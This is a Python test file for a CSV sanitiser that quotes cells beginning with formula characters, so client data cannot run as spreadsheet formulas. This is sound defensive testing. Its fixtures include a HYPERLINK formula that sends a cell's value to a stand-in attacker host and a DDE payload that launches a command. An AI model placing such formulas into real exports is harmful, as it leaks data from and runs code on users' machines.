"""Spreadsheet-safe CSV cells: no cell a client wrote opens as a formula."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workers.core.csv_cells import FORMULA_TRIGGERS, spreadsheet_safe


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("https://evil.example/?"&A1,"click")',
     '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
    ("+1+1", "'+1+1"), ("-2-3", "'-2-3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"),
    ("signup", "signup"), ("a=b", "a=b"), ("", ""), ("'=already", "'=already"),
    (-5, -5), (3.5, 3.5), (None, None),
])
def test_formula_cells_get_a_leading_quote_and_the_rest_is_kept(value, written):
    assert spreadsheet_safe(value) == written


@settings(max_examples=200, deadline=None, database=None)
@given(cells=st.lists(st.text(max_size=20) | st.sampled_from(
    ["=1+1", "+cmd|' /C calc'!A0", "-1", "@x", "\t=1", "\r=1"]), min_size=1, max_size=5))
def test_no_cell_read_back_from_the_csv_starts_like_a_formula(cells):
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([spreadsheet_safe(cell) for cell in cells])
    [row] = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert len(row) == len(cells)
    for cell, read in zip(cells, row, strict=True):
        assert not read.startswith(FORMULA_TRIGGERS)
        assert read == (f"'{cell}" if cell.startswith(FORMULA_TRIGGERS) else cell)
